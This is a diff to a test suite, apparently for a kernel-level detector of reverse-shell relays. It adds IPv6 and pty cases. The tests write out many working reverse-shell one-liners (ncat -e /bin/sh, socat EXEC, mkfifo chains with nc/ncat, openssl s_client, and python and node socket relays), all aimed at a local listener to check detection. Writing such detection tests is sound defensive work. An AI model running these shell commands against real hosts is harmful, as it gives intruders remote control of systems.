@@ -114,7 +114,8 @@ describe.runIf(tier.run)("kernel: RELAY-001 and RELAY-002 on real relay shells a
     return (tlsKeys = { key: readFileSync(key, "utf8"), cert: readFileSync(cert, "utf8") });
   };
 
-  const relays: { name: string; cmd: (h: string, p: number) => string; relay: string[]; host?: string; tls?: boolean }[] = [
+  type RelayCase = { name: string; cmd: (h: string, p: number) => string; relay: string[]; host?: string; listenHost?: string; tls?: boolean };
+  const relays: RelayCase[] = [
     { name: "ncat -e /bin/sh (pipes)", cmd: (h, p) => `ncat ${h} ${p} -e /bin/sh`, relay: ["ncat"] },
     { name: "ncat -e /bin/sh over IPv6", host: "::1", cmd: (h, p) => `ncat ${h} ${p} -e /bin/sh`, relay: ["ncat"] },
     { name: "ncat --sh-exec 'sh -i' (pipes, the shell started through sh -c)", cmd: (h, p) => `ncat ${h} ${p} --sh-exec 'sh -i'`, relay: ["ncat"] },
@@ -160,16 +161,77 @@ c.wait()'`,
       relay: ["python3"],
     },
     {
+      name: "python pty.fork: the parent relays between the socket and the pty master, the child execs /bin/sh -i on the slave",
+      cmd: (h, p) => `${PYTHON} -c '
+import socket,pty,os,select
+s=socket.create_connection(("${h}",${p}))
+pid,fd=pty.fork()
+if pid==0:
+    os.execv("/bin/sh",["/bin/sh","-i"])
+while True:
+    r,_,_=select.select([s,fd],[],[])
+    if s in r:
+        d=s.recv(4096)
+        if not d: break
+        os.write(fd,d)
+    if fd in r:
+        try: d=os.read(fd,4096)
+        except OSError: break
+        if not d: break
+        s.sendall(d)'`,
+      relay: ["python3"],
+    },
+    {
+      name: "python pty.spawn in a mkfifo chain: cat F | python3 -c 'pty.spawn(\"/bin/sh\")' | nc H P > F",
+      cmd: (h, p) => `F=${join(dir, "p")}-${p}; rm -f $F; mkfifo $F; cat $F | ${PYTHON} -c 'import pty; pty.spawn("/bin/sh")' | nc.traditional ${h} ${p} > $F`,
+      relay: ["nc.traditional"],
+    },
+    {
       name: "node child_process.spawn('/bin/sh', ['-i']) piped to a net socket (socketpairs)",
       cmd: (h, p) => `${process.execPath} -e 'const s=require("net").connect(${p},"${h}",()=>{const c=require("child_process").spawn("/bin/sh",["-i"]);s.pipe(c.stdin);c.stdout.pipe(s);c.stderr.pipe(s);c.on("exit",()=>process.exit(0))})'`,
       relay: ["node"],
     },
   ];
 
+  // IPv6: the same relays against a ::1 listener (nc.traditional has no IPv6: ncat plays nc).
+  const bracket = (h: string) => (h.includes(":") ? `[${h}]` : h);
+  const v6: RelayCase[] = ([
+    { name: "socat EXEC:/bin/sh over IPv6", cmd: (h, p) => `socat TCP6:${bracket(h)}:${p} EXEC:/bin/sh`, relay: ["socat"] },
+    {
+      name: "socat EXEC:'bash -li',pty,stderr,setsid,sigint,sane over IPv6",
+      cmd: (h, p) => `socat TCP6:${bracket(h)}:${p} EXEC:'bash -li',pty,stderr,setsid,sigint,sane`,
+      relay: ["socat"],
+    },
+    {
+      name: "mkfifo chain over IPv6: cat F | sh -i 2>&1 | ncat ::1 P > F",
+      cmd: (h, p) => `F=${join(dir, "f6")}-${p}; rm -f $F; mkfifo $F; cat $F | sh -i 2>&1 | ncat ${h} ${p} > $F`,
+      relay: ["ncat"],
+    },
+    {
+      name: "mkfifo chain, the other order, over IPv6: sh -i < F 2>&1 | ncat ::1 P > F",
+      cmd: (h, p) => `F=${join(dir, "g6")}-${p}; rm -f $F; mkfifo $F; sh -i < $F 2>&1 | ncat ${h} ${p} > $F`,
+      relay: ["ncat"],
+    },
+    {
+      name: "openssl s_client with a FIFO over IPv6 (TLS listener)",
+      tls: true,
+      cmd: (h, p) => `F=${join(dir, "t6")}-${p}; rm -f $F; mkfifo $F; sh -i < $F 2>&1 | openssl s_client -quiet -connect ${bracket(h)}:${p} > $F 2>/dev/null`,
+      relay: ["openssl"],
+    },
+    ...relays
+      .filter((r) => (r.name.startsWith("python") && !r.name.includes("mkfifo")) || r.name.startsWith("node"))
+      .map((r) => ({ ...r, name: `${r.name} over IPv6` })),
+  ] as RelayCase[]).map((r) => ({ ...r, host: "::1" }));
+  relays.push(...v6);
+  // An AF_INET6 socket connected to a v4-mapped address reaches an IPv4 listener: the record
+  // keeps the address as the socket has it.
+  const popen = relays.find((r) => r.name.startsWith("python subprocess.Popen"))!;
+  relays.push({ ...popen, name: "python Popen relay on an AF_INET6 socket to ::ffff:127.0.0.1 (v4-mapped)", host: "::ffff:127.0.0.1", listenHost: "127.0.0.1" });
+
   for (const relay of relays) {
     it(relay.name, async () => {
       const host = relay.host ?? "127.0.0.1";
-      const listener = await commandingListener(host, relay.tls === true ? { tls: tlsPair() } : {});
+      const listener = await commandingListener(relay.listenHost ?? host, relay.tls === true ? { tls: tlsPair() } : {});
       try {
         const r = await run("timeout", ["-s", "KILL", "10", "bash", "-c", relay.cmd(host, listener.port)]);
         expect(await listener.answered, `no answer from the shell: ${r.stderr}`).toBe(true);
@@ -179,6 +241,7 @@ c.wait()'`,
         const f = found[0]!;
         expect(f.destination.ip).toBe(host);
         expect(f.sockeye.relay.remote).toEqual({ address: host, port: listener.port });
+        expect((f as unknown as { network: { type: string } }).network.type).toBe(host.includes(":") ? "ipv6" : "ipv4");
         expect(relay.relay).toContain(f.sockeye.relay.program.name);
         expect(f.sockeye.relay.shell.interpreter).toBe("shell");
         expect(["sh", "bash", "dash"]).toContain(f.process.name);
